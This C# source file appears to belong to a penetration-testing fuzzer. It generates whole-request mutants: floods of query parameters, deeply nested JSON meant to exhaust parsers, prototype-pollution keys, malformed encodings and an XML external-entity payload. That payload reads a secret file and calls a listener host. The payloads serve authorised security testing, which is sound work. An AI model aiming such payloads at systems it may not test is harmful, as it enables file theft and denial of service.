using Lighthouse.Security.Wire;

namespace Lighthouse.Security.Penetration.Fuzzing;

/// <summary>Changes of a request as a whole: bodies that are none, of another type, too deep; parameters given twice.</summary>
internal static class WholeMutants
{
    private const int Deep = 20_000;
    private static readonly string s_lists = new('[', Deep);
    private static readonly string s_objects = string.Concat(Enumerable.Repeat("{\"a\":", Deep)) + "1" + new string('}', Deep);
    private static readonly string s_parameters = string.Join('&', Enumerable.Range(0, 1_500).Select(at => $"a{at}="));

    public static IEnumerable<Mutant> For(Subject subject, Canaries canaries)
    {
        var plain = subject.Plain;
        yield return Whole("many query parameters", plain with { Target = $"{plain.Target}{(plain.Target.Contains('?') ? '&' : '?')}{s_parameters}" });
        if (plain.Target.Contains('?'))
            yield return Whole("query parameters given twice", plain with { Target = $"{plain.Target}&{plain.Target.Split('?', 2)[1]}" });
        if (plain.Body is null)
            yield break;
        foreach (var (name, body) in Bodies(plain.Body))
            yield return Whole(name, plain with { Body = body });
        foreach (var (name, body) in Bytes(plain.Body))
            yield return Whole(name, plain with { Body = body, BodyIsBytes = true });
        foreach (var type in new[] { "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16", "application/json; charset=none-such", "application/octet-stream" })
            yield return Whole($"body as {type}", plain with { ContentType = type });
        yield return Whole("body without a type", plain with { ContentType = null });
        yield return new Mutant(new Payload(PenetrationClasses.Execution, "XML with an external entity", ""), null, plain with
        {
            ContentType = "application/xml",
            Body = $"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file://{canaries.SecretFile}\"><!ENTITY y SYSTEM \"http://{canaries.Listener.Authority}/xml\">]><a>&x;&y;</a>",
        });
    }

    private static Mutant Whole(string name, RawRequest request) => new(new Payload(PenetrationClasses.DenialOfService, name, ""), null, request);

    private static IEnumerable<(string Name, string Body)> Bodies(string body) =>
    [
        ("empty body", ""),
        ("null as body", "null"),
        ("list as body", "[]"),
        ("text as body", "\"text\""),
        ("number as body", "1e999"),
        ("body cut off", body[..(body.Length / 2)]),
        ("body twice", body + body),
        ("body with a comma at its end", $"{body.TrimEnd('}')},}}"),
        ("body with a comment", $"/* */{body}"),
        ("every member twice", $"{body.TrimEnd('}')}{(body.Length > 2 ? "," : "")}{body.TrimStart('{')}"),
        ("unknown members", $"{body.TrimEnd('}')}{(body.Length > 2 ? "," : "")}\"__proto__\":{{\"a\":1}},\"constructor\":1,\"\":2}}"),
        ("lists nested without end", s_lists),
        ("objects nested deep", s_objects),
    ];

    private static IEnumerable<(string Name, string Body)> Bytes(string body) =>
    [
        ("body with a byte order mark", $"\u00EF\u00BB\u00BF{body}"),
        ("body of NULs", new string('\0', 64)),
        ("body that is no UTF-8", body.Replace(":\"", ":\"\u00FF\u00FE", StringComparison.Ordinal)),
        ("body with surrogates as bytes", body.Replace(":\"", ":\"\u00ED\u00A0\u0080", StringComparison.Ordinal)),
    ];
}
